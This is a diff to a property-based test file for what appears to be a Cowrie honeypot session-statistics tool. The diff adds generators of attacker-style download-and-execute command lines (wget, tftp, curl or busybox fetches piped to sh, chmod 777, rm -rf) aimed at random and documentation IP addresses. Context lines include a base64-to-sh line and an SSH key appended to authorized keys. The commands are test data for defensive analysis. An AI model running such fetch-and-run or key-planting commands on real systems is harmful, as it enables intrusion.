@@ -7,7 +7,7 @@ from hypothesis import strategies as st
 from test_templates import FRAGMENTS, everything
 
 from cowrie_sessionstats.commands import Templates, default_vocabulary
-from cowrie_sessionstats.commands._canonical import canonical
+from cowrie_sessionstats.commands._canonical import SCRIPT, canonical, script_of
 
 MAKER = Templates(default_vocabulary())
 
@@ -78,12 +78,58 @@ decoded = st.builds(
     ),
 )
 
+scripts = st.sampled_from(
+    ["xqzkvbnw.sh", "update.sh", "bins.sh", "mips", "aaaaaa.sh", "install.sh", "x.sh", "profile.sh"]
+) | st.from_regex(r"[a-z]{4,17}\.sh(\.sh|\.1|)", fullmatch=True)
+addresses = st.one_of(
+    st.ip_addresses(v=4).map(str), st.sampled_from(["1.2.3", "01.2.3.4", "256.1.1.1", "localhost"])
+)
+ways = st.sampled_from(
+    [
+        "{go}wget {url}; chmod 777 {script}; sh {script}; rm -rf {script}",
+        "{go}tftp {address} -c get {script}; chmod 777 {script}; sh {script}",
+        "tftp -g -r {script} {address} 69; ./{script} {address}; cat {address}",
+        "{go}curl -O {url}|sh; /tmp/{script} {other}; rm {script}",
+        "curl {url} -o {script} && chmod +x {script}; ./{script}",
+        "busybox wget {url} -O - | sh", "wget {url}{url} {url} && {url}; {script}",
+        "wget {url}?a={address}; mkdir {script}; cd {script}; {script} curl {url}",
+        "{go}chmod 777 {script} curl {script} {script}; > {other}; {other} & ./{script}",
+        "ping -c 1 {address}:80; wget {address}/{script}", "sh -c wget {url}; for {script} in a",
+    ]
+)  # fmt: skip
+fetches = st.builds(
+    lambda way, address, folder, script, go, other, tail: (
+        way.format(
+            url=f"http://{address}{folder}/{script}",
+            address=address,
+            script=script,
+            go=go,
+            other=other,
+        )
+        + tail
+    ),
+    ways,
+    addresses,
+    st.sampled_from(["", "/a/bc", "/xqzkvbnw.sh", ":8080", "/...", "/%20", "//"]),
+    scripts,
+    st.sampled_from(["", "cd /tmp || cd /var/run; ", "cd /etc/profile.d; ", "X=", "sudo "]),
+    scripts,
+    tails | st.just(""),
+)
+
 
 @everything
-@given(passwords | payloads | applets | kills | keys | decoded)
+@given(passwords | payloads | applets | kills | keys | decoded | fetches)
 def test_the_line_that_stands_for_another_has_its_plan(line: str) -> None:
     """All of it: template, programs, names, what comes after."""
     assert MAKER._plan(canonical(line)) == MAKER._plan(line)
+
+
+@everything
+@given(fetches)
+def test_the_plan_of_a_fetched_script_is_that_of_another_but_for_its_name(line: str) -> None:
+    """Whatever the vocabulary, the places where it stands and other names say."""
+    assert MAKER._plan_kept(line) == MAKER._plan(line)
 
 
 def test_the_lines_that_it_is_for() -> None:
@@ -95,7 +141,11 @@ def test_the_lines_that_it_is_for() -> None:
         ("cat /proc/mounts; /bin/busybox GGDBS", "cat /proc/mounts; /bin/busybox UZUCW"),
         ("echo dG91Y2ggL3RtcC94 | base64 -d|sh", "echo aWQ7dW5hbWUgLWE7dw== | base64 -d|sh"),
         ("/bin/busybox kill -9 5673", "/bin/busybox kill -9 1553"),
+        ("wget http://192.0.2.1/ab/c; sh c", "wget http://198.51.100.7/c; sh c"),
         ('echo "ssh-rsa AAAAB3NzaC1yc2E+x">>.ssh/k', 'echo "ssh-rsa AAAAC3NzaC1lZDI1/">>.ssh/k'),
     ):
         assert ours != theirs
         assert canonical(ours) == canonical(theirs)
+    line = "tftp 192.0.2.1 -c get xqzkvbnw.sh; sh xqzkvbnw.sh"
+    assert script_of(line) == "xqzkvbnw.sh"
+    assert script_of(line.replace("xqzkvbnw.sh", SCRIPT)) is None
